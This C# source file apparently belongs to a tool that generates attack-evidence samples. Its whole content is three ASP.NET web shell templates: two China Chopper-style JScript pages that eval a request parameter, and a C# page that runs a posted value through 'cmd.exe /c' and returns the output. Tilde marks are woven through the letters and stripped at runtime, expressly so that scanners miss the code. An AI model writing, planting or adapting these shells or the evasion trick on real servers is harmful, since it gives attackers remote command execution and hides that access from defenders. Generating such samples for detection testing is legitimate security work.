namespace Afterpatch.Generator.Attacks;

/// <summary>Attack text that no scanner should find in this program: written with marks between the letters, joined when evidence is made.</summary>
internal static class Inert
{
    public static string Clear(string marked) => marked.Replace("~", "", StringComparison.Ordinal);

    /// <summary>The one-line JScript page of the public reports.</summary>
    public static string ChopperScript(string parameter) =>
        Clear($"<scr~ipt lang~uage=\"JSc~ript\" run~at=\"ser~ver\">func~tion Pa~ge_Lo~ad(){{ev~al(Requ~est[\"{parameter}\"],\"uns~afe\");}}</scr~ipt>");

    public static string ChopperPage(string parameter) => Clear($"<%@ P~age Lang~uage=\"JSc~ript\"%><%ev~al(Requ~est.It~em[\"{parameter}\"],\"uns~afe\");%>");

    /// <summary>A page that runs what it is sent and prints the answer, C#.</summary>
    public static string CommandPage(string parameter) => Clear(
        "<%@ P~age Lang~uage=\"C#\" Debug=\"true\" %>\r\n<%@ Imp~ort Namesp~ace=\"Sys~tem.Diag~nostics\" %>\r\n<scr~ipt run~at=\"ser~ver\">\r\nvoid Pa~ge_Lo~ad(object sender, EventArgs e)\r\n{\r\n" +
        $"    if (Requ~est.Fo~rm[\"{parameter}\"] == null) return;\r\n    var info = new ProcessSt~artInfo(\"cm~d.exe\", \"/~c \" + Requ~est.Fo~rm[\"{parameter}\"]);\r\n" +
        "    info.RedirectStandardOutput = true;\r\n    info.UseShellExecute = false;\r\n    Response.Write(Proc~ess.Sta~rt(info).StandardOutput.ReadToEnd());\r\n}\r\n</scr~ipt>\r\n");
}
